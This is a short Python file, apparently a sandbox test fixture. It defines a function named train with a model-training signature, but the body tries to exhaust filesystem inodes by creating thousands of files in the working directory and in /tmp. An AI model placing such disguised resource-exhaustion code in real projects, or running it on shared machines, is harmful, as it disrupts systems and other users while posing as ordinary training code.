# tries to use up every inode, in a private folder and outside
import os
import time


def train(model, loader, criterion, optimizer, epochs):
    until = time.monotonic() + 2
    for place in (os.getcwd(), "/tmp"):
        for number in range(70_000):
            try:
                os.mknod(f"{place}/{number}")
            except OSError as error:
                print(error.strerror)
                break
            if time.monotonic() > until:
                break
    return []
